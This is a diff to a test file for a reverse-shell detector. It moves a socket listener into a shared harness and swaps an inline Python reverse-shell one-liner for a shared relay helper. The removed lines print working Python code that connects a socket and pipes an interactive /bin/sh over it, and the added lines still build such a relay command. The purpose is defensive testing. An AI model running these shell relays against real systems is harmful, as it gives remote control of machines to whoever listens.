@@ -13,7 +13,7 @@ import { spawnSync } from "node:child_process";
 import { mkdtempSync, readFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
-import { PYTHON, Session, commandingListener, kernelTier, run } from "./harness.js";
+import { PYTHON, PYTHON_PIPE_RELAY, Session, collectingListener, commandingListener, kernelTier, run } from "./harness.js";
 
 const tier = kernelTier();
 
@@ -21,24 +21,6 @@ interface RelayFinding extends Finding {
   destination: { ip: string; port: number };
   sockeye: Finding["sockeye"] & {
     relay: { program: { name: string }; remote: { address: string; port: number }; shell: { interpreter: string } };
-  };
-}
-
-
-/** A listener that only collects what arrives (the output half of a telnet pair). */
-async function collectingListener(host: string): Promise<{ port: number; received: () => string; close(): Promise<void> }> {
-  const sockets = new Set<net.Socket>();
-  let got = "";
-  const server = net.createServer((s) => {
-    sockets.add(s);
-    s.on("error", () => {});
-    s.on("data", (d: Buffer) => (got += d.toString()));
-  });
-  await new Promise<void>((resolve) => server.listen(0, host, resolve));
-  return {
-    port: (server.address() as net.AddressInfo).port,
-    received: () => got,
-    close: () => new Promise((resolve) => { for (const s of sockets) s.destroy(); server.close(() => resolve()); }),
   };
 }
 
@@ -108,21 +90,9 @@ describe.runIf(tier.run)("kernel: RELAY-001 and RELAY-002 on real relay shells a
     },
     {
       name: "python subprocess.Popen(['/bin/sh','-i'], stdin=PIPE, stdout=PIPE) relayed to a socket",
-      cmd: (h, p) => `${PYTHON} -c '
-import socket,subprocess,threading,os
-s=socket.create_connection(("${h}",${p}))
-c=subprocess.Popen(["/bin/sh","-i"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT)
-def up():
-    while True:
-        d=os.read(c.stdout.fileno(),4096)
-        if not d: break
-        s.sendall(d)
-threading.Thread(target=up,daemon=True).start()
-while True:
-    d=s.recv(4096)
-    if not d: break
-    c.stdin.write(d); c.stdin.flush()
-c.wait()'`,
+      cmd: (h, p) => `${PYTHON} -c '${PYTHON_PIPE_RELAY}
+import socket
+pipe_relay(socket.create_connection(("${h}",${p})))'`,
       relay: ["python3"],
     },
     {
